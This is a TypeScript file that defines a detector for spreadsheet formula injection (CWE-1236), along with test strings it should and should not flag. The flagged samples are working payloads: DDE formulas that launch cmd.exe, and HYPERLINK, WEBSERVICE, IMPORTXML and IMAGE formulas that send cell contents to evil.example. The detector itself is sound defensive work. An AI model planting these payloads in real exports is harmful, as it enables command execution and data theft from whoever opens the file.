import { defineAttack } from '../define-attack.ts';
import { formulasOf } from '../languages/sheet/formulas.ts';
import { sign } from '../signs.ts';

/** Cells that a spreadsheet calculates once somebody opens an export of the data (CWE-1236). */
export const formulaInjection = defineAttack({
  id: 'formula-injection',
  title: 'Formula injection',
  cwe: 'CWE-1236',
  owasp: 'API8:2023',
  gates: [sign.equals | sign.plus | sign.dash | sign.at, sign.paren | sign.pipe | sign.digit],
  features: {
    exchange: 'asks another program for a value',
    reach: 'calls a function that reaches out of the table',
    call: 'calls a function of spreadsheets',
    cells: 'computes with cells of the table',
    'next-cell': 'ends the cell that it stands in',
  },
  look({ text }, { isName }, note) {
    if (isName) return;
    for (const { what, isNext, start, end } of formulasOf(text)) {
      if (!isNext || what === 'exchange' || what === 'reach') note(what, start, end);
      if (isNext && (what === 'exchange' || what === 'reach')) note('next-cell', start - 1, start);
    }
  },
  worst: (length) => '\n=a|'.repeat(Math.ceil(length / 4)).slice(0, length),
  samples: {
    hits: [
      "=cmd|'/C calc'!A0",
      '=HYPERLINK("http://evil.example?x="&A1&A2,"Open")',
      "@SUM(1+1)*cmd|'/C calc'!A0",
      "-2+3+cmd|'/C calc'!D2",
      '+WEBSERVICE("http://evil.example/"&B2)',
      '=1+1-HYPERLINK("http://evil.example","a")',
      "=msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
      '\t=IMPORTXML("http://evil.example","//a")',
      '=DDE("cmd";"/C calc";"x")',
      'a","=HYPERLINK(""http://evil.example"")',
      "Jane\n=cmd|'/C calc'!A0",
      '=SUM(A1:A9)',
      "+cmd|' /C calc'!A0",
      '+image("http://evil.example/?x="&A1)',
      '@INFO("directory")',
      '=CELL(A1)',
      '\uff1dHYPERLINK("http://evil.example")',
      '="a"&HYPERLINK("http://evil.example/?"&A1)',
      '={1;2}&Sheet1!A1:B2&IMPORTDATA("http://evil.example")',
      '=TRUE+WEBSERVICE("http://evil.example")',
    ],
    misses: [
      '=',
      '-5',
      '+49 30 (0) 123456',
      '-',
      '--',
      '@jane (work)',
      '@if(user)',
      '@Component({})',
      '-sum(a)',
      '=> x(1)',
      '== a (b)',
      '- image (left) | text (right)!',
      '-c|d!',
      '+1 (if possible)',
      'a = SUM(b)',
      'total\n- sum (net)',
      '=A1+B2',
      'x\n=SUM(A1)',
      'Tomorrow:\n-Call(Jane)\n-Info(office)',
      '-Image(1)',
      '@Register()\nclass Orders {}',
      '+CALL(555) 0100',
      '= see HYPERLINK() in the manual',
      '- cmd | powershell, whichever you like!',
    ],
  },
});
